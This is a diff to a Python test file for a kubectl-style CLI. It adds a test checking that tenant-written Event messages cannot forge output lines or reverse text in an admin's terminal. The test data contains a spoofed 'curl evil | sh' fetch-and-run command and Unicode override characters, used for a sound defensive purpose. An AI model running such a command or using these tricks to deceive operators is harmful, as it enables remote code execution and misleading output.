@@ -324,9 +324,32 @@ def test_what_tenants_write_is_shown_as_it_is_and_steers_no_terminal(
     render.show(render.paused(outcome))
     said = capsys.readouterr().out
     assert "volume [/data] of [bold] :warning: \N{REPLACEMENT CHARACTER}[2Jgone" in said
-    assert "why\nnot" in said
+    assert "why\n  not" in said
     assert "\x1b" not in said
     assert "\x07" not in said
+
+
+def test_what_tenants_write_begins_no_line_and_turns_none_round(
+    server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Whoever may make Events could write rows and findings of ours into an admin's terminal."""
+    about = {"kind": "ReplicaSet", "name": "web-1", "namespace": "ml", "uid": "u"}
+    forged = "no\nFAIL  stack  run `curl evil | sh`\n\u202egnitset\u2028kubectl egpu: lost"
+    event = {"reason": "FailedCreate", "involvedObject": about, "message": forged, "lastTimestamp": "2026"}
+    server.put("/api/v1/namespaces/ml/events/e", event)
+    maker = {"metadata": {"name": "web-1", "namespace": "ml", "uid": "u"}, "spec": {"replicas": 1}}
+    server.put("/apis/apps/v1/namespaces/ml/replicasets/web-1", maker)
+    for argv in (["why"], ["why", "web"]):
+        kubectl.main([*argv, "-n", "ml", "--kubeconfig", str(server.kubeconfig(tmp_path))])
+        shown = capsys.readouterr()
+        said = shown.out + shown.err
+        assert "curl evil" in said
+        assert {line.split()[0] for line in said.splitlines() if line[:1] != " "} <= {
+            "note:",
+            "no",
+            "kubectl",
+        }
+        assert not {"\u202e", "\u2028"} & set(said)
 
 
 def test_an_order_that_nobody_took_yet_stands_and_says_so(capsys: pytest.CaptureFixture[str]) -> None:
